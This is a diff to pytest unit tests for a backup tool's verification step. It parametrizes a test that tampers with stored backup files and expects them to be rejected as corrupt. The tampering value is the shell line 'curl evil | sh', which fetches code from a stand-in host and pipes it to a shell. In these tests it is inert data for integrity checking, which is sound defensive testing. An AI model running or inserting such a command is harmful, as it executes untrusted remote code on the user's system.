@@ -10,12 +10,7 @@ import pytest
 
 from platform_ops.backups.errors import Corrupt, NotProven
 from platform_ops.backups.points import MANIFEST, point_id
-from platform_ops.backups.steps import (
-    COPY,
-    CopySource,
-    PrunePoints,
-    VerifyPoint,
-)
+from platform_ops.backups.steps import COPY, CopySource, PrunePoints, VerifyPoint
 from platform_ops.common.errors import AuthenticationFailed
 from tests.unit.backups.installation import NOW, Steps
 
@@ -26,11 +21,15 @@ def test_a_verification_leaves_its_mark(steps: Steps) -> None:
     assert noted["manifest_sha256"] == steps.told[-1]["facts"]["manifest_sha256"]
 
 
-def test_a_spoilt_point_gets_no_mark(steps: Steps) -> None:
+@pytest.mark.parametrize(
+    ("name", "said"),
+    [("tree.tar.zst.age", r"tree\.tar\.zst\.age"), ("RESTORE.md", r"RESTORE\.md is not the text")],
+)
+def test_a_spoilt_point_gets_no_mark(steps: Steps, name: str, said: str) -> None:
     steps.run(CopySource, source="tree")
-    key = next(key for key in steps.store.objects if key.endswith("tree.tar.zst.age"))
-    steps.store.objects[key] += b"x"
-    with pytest.raises(Corrupt, match=r"tree\.tar\.zst\.age"):
+    key = next(key for key in steps.store.objects if key.endswith(name))
+    steps.store.objects[key] += b"curl evil | sh"
+    with pytest.raises(Corrupt, match=said):
         steps.run(VerifyPoint, source="tree")
     assert not any(key.endswith("verified.json") for key in steps.store.objects)
 
@@ -64,14 +63,6 @@ def test_a_manifest_that_changed_since_it_was_verified_is_not_verified_again(ste
     key = f"tree/{steps.back_up()}/{MANIFEST}"
     steps.store.objects[key] = steps.store.objects[key].replace(b'"files":4', b'"files":5')
     with pytest.raises(NotProven, match="not the one that copy_source wrote"):
-        steps.run(VerifyPoint, source="tree")
-
-
-def test_the_text_for_the_worst_day_is_verified_too(steps: Steps) -> None:
-    steps.run(CopySource, source="tree")
-    key = next(key for key in steps.store.objects if key.endswith("RESTORE.md"))
-    steps.store.objects[key] += b"curl evil | sh"
-    with pytest.raises(Corrupt, match=r"RESTORE\.md is not the text"):
         steps.run(VerifyPoint, source="tree")
 
 
